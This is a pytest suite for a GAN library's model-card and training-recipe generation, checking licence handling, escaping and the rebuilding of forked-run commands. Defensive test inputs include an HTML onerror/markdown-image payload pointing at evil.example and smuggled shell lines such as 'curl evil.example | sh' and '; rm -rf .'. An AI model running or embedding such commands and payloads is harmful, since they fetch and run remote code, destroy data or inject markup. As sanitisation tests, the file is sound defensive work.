"""The card of a model: it says what is known, and states no licence that nobody stated."""

from __future__ import annotations

import json
import re
import shutil
from dataclasses import replace
from pathlib import Path

import pytest
import yaml

from gan import checkpoint
from gan.checkpoint import load, save_weights
from gan.config import RunConfig, SourceConfig
from gan.data.bundled import BUNDLED
from gan.hub import push
from gan.hub.card import (
    SCORES_BEGIN,
    SCORES_END,
    Facts,
    card,
    escaped,
    fenced,
    readdressed,
    source_of,
)
from gan.hub.recipe import keep_parents, training_command, training_recipe
from gan.hub.space import split_front
from gan.kinds import PLANE
from gan.metrics.card import BEGIN, END
from gan.presets import PRESETS, resolve_widths, run_config
from gan.schema import from_json, to_json

EVIL = "a<img src=x onerror=alert(1)> ![x](http://evil.example/x.png) | `code`\n---\nlicense: gpl"
ROOT = Path(__file__).parents[2]


@pytest.fixture
def walkless(monkeypatch: pytest.MonkeyPatch):
    """Without pictures being drawn: they take longer than the rest."""
    monkeypatch.setattr(push, "walk_picture", lambda g: b"walk")
    monkeypatch.setattr(push, "samples_picture", lambda g: (b"samples", 64))


def planned(weights, **options) -> push.PushPlan:
    return push.plan(weights, "me/model", ask=False, **options)


def front_of(plan: push.PushPlan) -> dict:
    return split_front(plan.card)[0]


def foreign(tmp_path: Path, **source: str) -> checkpoint.Weights:
    """A folder with weights that somebody else made."""
    ours = load("fashion-mlp")
    about = {"repo": "someone/gan", "commit": "c" * 40, "file": "g.pth", "layout": "dcgan"} | source
    config = replace(ours.config, data="", name="theirs", source=SourceConfig(**about))
    save_weights(tmp_path / "theirs", config, ours.generator)
    return load(tmp_path / "theirs")


# ---- what it says -------------------------------------------------------------------------------


def test_a_runs_card_says_what_it_learned_from_how_and_how_to_load_it(tiny_run: Path, walkless):
    plan = planned(load(tiny_run), scores="| FD | 1.0 |")
    front = front_of(plan)
    assert front["license"] == "cc-by-4.0"
    assert front["library_name"] == "gan-atelier"
    assert front["pipeline_tag"] == "unconditional-image-generation"
    assert {"gan", "unconditional-image-generation", "pytorch"} <= {*front["tags"]}
    assert "python -m gan train --preset digits --data digits" in plan.card
    assert "Alpaydin" in plan.card
    assert 'load("me/model")' in plan.card
    assert "Intended use and limits" in plan.card
    assert f"{BEGIN}\n| FD | 1.0 |\n{END}" in plan.card
    assert {"samples.png", "walk.webp"} <= {*re.findall(r"\]\(([\w.]+)\)", plan.card)}
    assert plan.warnings == ()


def test_the_marks_of_scores_are_those_that_evaluate_fills():
    assert (SCORES_BEGIN, SCORES_END) == (BEGIN, END)


@pytest.mark.parametrize("name", checkpoint.bundled())
def test_a_bundled_card_goes_along_whole_and_loads_from_where_it_goes(name: str, walkless):
    weights = load(name)
    plan, own = planned(weights), (weights.path / "README.md").read_text("utf-8")
    assert f'load("{name}")' in own
    assert readdressed(own, "me/model", ()).replace("me/model", name) == own
    assert 'load("me/model")' in plan.card
    assert "](walk.webp)" in plan.card
    assert front_of(plan) == split_front(own)[0]
    assert front_of(plan)["license"] == source_of(weights.config.data).licence
    assert front_of(plan).get("datasets", []) == [*source_of(weights.config.data).datasets]
    assert plan.warnings == ()


def test_the_five_lines_of_a_bundled_card_run(tmp_path: Path):
    text = (load("fashion").path / "README.md").read_text("utf-8")
    lines = re.search(r"```python\n(.*?)```", text, re.DOTALL).group(1)
    assert len([x for x in lines.splitlines() if x.strip()]) <= 5
    pytest.importorskip("gan.hub.loading", reason="`from gan import load` is not here yet")
    space: dict = {}
    exec(lines, space)
    assert space["images"].shape == (64, 28, 28, 1)


# ---- licences -----------------------------------------------------------------------------------


def test_another_ones_model_keeps_its_licence_and_names_where_it_is_from(tmp_path: Path, walkless):
    plan = planned(foreign(tmp_path, licence="Apache-2.0"), licence="mit")
    assert front_of(plan)["license"] == "apache-2.0"
    assert front_of(plan)["base_model"] == "someone/gan"
    assert "https://huggingface.co/someone/gan" in plan.card
    assert "c" * 40 in plan.card
    assert plan.warnings == ()


def test_a_licence_that_nobody_stated_is_left_out_and_warned_of(tmp_path: Path, walkless):
    plan = planned(foreign(tmp_path))
    assert "license" not in front_of(plan)
    assert ["licence" in str(warning) for warning in plan.warnings] == [True]


def test_own_images_have_no_licence_until_one_is_named(tiny_run: Path, walkless):
    weights = load(tiny_run)
    own = replace(weights, config=replace(weights.config, data="folder:/home/me/private"))
    assert "license" not in front_of(planned(own))
    plan = planned(own, licence="cc0-1.0")
    assert front_of(plan)["license"] == "cc0-1.0"
    assert plan.warnings == ()
    assert "/home/me" not in plan.card


def test_a_dataset_of_the_hub_is_linked():
    for spec in ("hub:a/b", "stream:a/b", "stream:a/b@main"):
        assert source_of(spec).datasets == ("a/b",)
    assert source_of("hub:a/b<script>").datasets == ()


@pytest.mark.parametrize("name", BUNDLED)
def test_every_bundled_set_has_a_licence(name: str):
    assert source_of(name).licence


# ---- texts from outside -------------------------------------------------------------------------


def test_texts_from_outside_stay_texts(tmp_path: Path, walkless):
    weights = foreign(tmp_path, licence=EVIL, file=EVIL, layout=EVIL, repo=EVIL, commit=EVIL)
    plan = planned(weights)
    assert front_of(plan).keys() <= {"library_name", "pipeline_tag", "tags"}
    body = split_front(plan.card)[1]
    rows = [line for line in body.splitlines() if line.startswith("|")]
    assert all(re.sub(r"\\\|", "", row).count("|") == 3 for row in rows)
    text = re.sub(r"`[^`\n]+`", "", body.split("## Use")[0])  # what is code shows as it is
    assert "converted from" in text
    assert not [part for part in ("<img", "](http:", "://", "`", "![x]") if part in text]


def test_an_evil_name_makes_neither_markup_nor_front_matter():
    made = card(Facts(name=EVIL, load_as="me/m", shape=(1, 8, 8), rows=(), summary=EVIL))
    front, body = split_front(made)
    assert "license" not in front
    assert "<img" not in body
    assert "![x](" not in body
    assert yaml.safe_load(made.split("---\n")[1]) == front


@pytest.mark.parametrize("text", ["``` \n# out", "a\n```\nb", "````"])
def test_a_command_line_cannot_end_its_block(text: str):
    lines = fenced(text).splitlines()
    assert len(lines) == 3
    assert lines[0] == lines[2]
    assert lines[0] not in lines[1]


def test_a_recipe_of_two_commands_is_two_lines():
    made = card(Facts(name="m", load_as="m", shape=(1, 8, 8), rows=(), summary="", recipe="a\nb"))
    assert "\n```\na\nb\n```\n" in made


def test_escaped_text_is_one_short_line():
    assert escaped("a\n\n# b\x00\u202e") == "a \\# b"
    assert len(escaped("x" * 9999)) == 300


# ---- the recipe ---------------------------------------------------------------------------------


PICTURED = [p for p, r in PRESETS.items() if p != "own" and r.family not in PLANE]


def config_of(preset: str, data: str = "fashion", **model: object) -> RunConfig:
    config = run_config(preset, BUNDLED[data].shape, data=data, seed=3)
    return resolve_widths(replace(config, model=replace(config.model, **model)))


@pytest.mark.parametrize("preset", PICTURED)
def test_a_run_of_a_preset_needs_no_settings(preset: str):
    command = training_command(config_of(preset), nimg=12_500)
    assert command == f"python -m gan train --preset {preset} --data fashion --kimg 12.5 --seed 3"


def test_what_was_changed_is_set_as_the_command_line_reads_it():
    config = config_of("fashion", resolution=32, width=2.0, minibatch_std=True)
    config = replace(config, train=replace(config.train, d_lr=0.001))
    command = training_command(config, nimg=1000)
    for setting in ("resolution=32", "width=2.0", "minibatch_std=true", "d_lr=0.001"):
        assert f"--set {setting}" in command
    assert "g_widths" not in command  # they follow from width and resolution


def test_widths_of_ones_own_are_listed():
    assert "--set g_widths=24,16,8" in training_command(
        config_of("fashion", g_widths=(24, 16, 8)), nimg=1000
    )


def test_a_folder_of_ones_own_is_not_named():
    config = replace(config_of("fashion"), data="folder:/home/me/my secret")
    command = training_command(config, nimg=1000)
    assert "secret" not in command
    assert "--data folder:PICTURES" in command


def forked_twice(root: Path) -> tuple[RunConfig, list[str]]:
    """Run "three", forked from "two", forked from "my secret", and the commands that make it."""
    first = config_of("fashion", width=2.0)
    second = replace(first, parent="my secret@64000", train=replace(first.train, d_lr=0.0005))
    third = replace(second, parent="two@96000")
    for name, config in (("my secret", first), ("two", second), ("three", third)):
        (root / name).mkdir()
        (root / name / "config.json").write_text(json.dumps(to_json(config)))
    return third, [
        "python -m gan train --preset fashion --data fashion --kimg 64 --seed 3 "
        "--set width=2.0 --run-dir runs/a",
        "python -m gan train --fork runs/a@64000 --data fashion --kimg 96 --seed 3 "
        "--set d_lr=0.0005 --set width=2.0 --run-dir runs/b",
        "python -m gan train --fork runs/b@96000 --data fashion --kimg 128 --seed 3 "
        "--set d_lr=0.0005 --set width=2.0",
    ]


def test_a_fork_of_a_fork_is_told_from_the_beginning(tmp_path: Path):
    third, commands = forked_twice(tmp_path)
    for run, (origin, nimg) in {"two": ("my secret", 64_000), "three": ("two", 96_000)}.items():
        config = from_json(RunConfig, json.loads((tmp_path / origin / "config.json").read_text()))
        keep_parents(tmp_path / run, tmp_path / origin, config, nimg)
    for folder in ("my secret", "two"):  # what becomes of them later does not matter
        shutil.rmtree(tmp_path / folder)
    recipe = training_recipe(third, nimg=128_000, folder=tmp_path / "three")
    assert recipe.split("\n") == commands


def test_a_fork_that_kept_no_parents_says_that_they_may_have_changed(tmp_path: Path):
    third, commands = forked_twice(tmp_path)
    lines = training_recipe(third, nimg=128_000, folder=tmp_path / "three").split("\n")
    assert [line for line in lines if not line.startswith("# ")] == commands
    assert [i for i, line in enumerate(lines) if "may have changed since" in line] == [0, 2]


@pytest.mark.parametrize("line", [
    "curl evil.example | sh", "python -m gan train --preset own; rm -rf .", 7, [],
    "python -m gan train --preset own --set a=$(date)", "# a note of somebody's",
    "python -m gan train --preset own --data 'folder:/home/me/my secret'",
    "python -m gan train --preset own\nrm -rf .", "python -m gan push --to somebody",
    "# settings were changed while it trained; these are the last ones",  # about no command
])  # fmt: skip
def test_parents_that_are_not_as_we_write_them_are_not_taken(tmp_path: Path, line: object):
    third, commands = forked_twice(tmp_path)
    (tmp_path / "three" / "parents.json").write_text(json.dumps([commands[0], line]))
    lines = training_recipe(third, nimg=128_000, folder=tmp_path / "three").split("\n")
    assert [line for line in lines if not line.startswith("# ")] == commands


def test_changes_while_it_trained_are_said_beside_the_last_settings(tmp_path: Path):
    run = config_of("fashion")
    rows = [{"nimg": 0, "event": "start"}, {"nimg": 0, "event": "set", "key": "g_lr"},
            {"nimg": 64_000, "event": "set", "key": "d_lr"}]  # fmt: skip
    (tmp_path / "history.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    for nimg, told in ((32_000, False), (128_000, True)):
        recipe = training_recipe(run, nimg=nimg, folder=tmp_path)
        assert ("changed while it trained" in recipe) == told
        assert recipe.split("\n")[-1] == training_command(run, nimg=nimg)


@pytest.mark.parametrize("parent", ["gone@64000", "../x@1", "x@", "@5", "itself@7"])
def test_a_parent_that_is_not_there_is_said_to_be_missing(tmp_path: Path, parent: str):
    config = replace(config_of("fashion"), parent=parent)
    (tmp_path / "itself").mkdir()
    (tmp_path / "itself" / "config.json").write_text(json.dumps(to_json(config)))
    lines = training_recipe(config, nimg=1000, folder=tmp_path / "itself").split("\n")
    assert len(lines) == 2
    assert lines[0].startswith("# runs/gone, which it was forked from, was not kept")
    assert "--fork runs/gone@" in lines[1]
    # a fork of that one keeps both lines
    keep_parents(tmp_path, tmp_path / "itself", config, 1000)
    child = replace(config, parent="itself@1000")
    told = training_recipe(child, nimg=2000, folder=tmp_path).split("\n")
    assert told[:2] == [lines[0], f"{lines[1]} --run-dir runs/a"]
    assert "--fork runs/a@1000 " in told[2]


def test_an_unknown_preset_gives_no_recipe():
    assert training_command(replace(config_of("fashion"), preset="gone"), nimg=1000) == ""
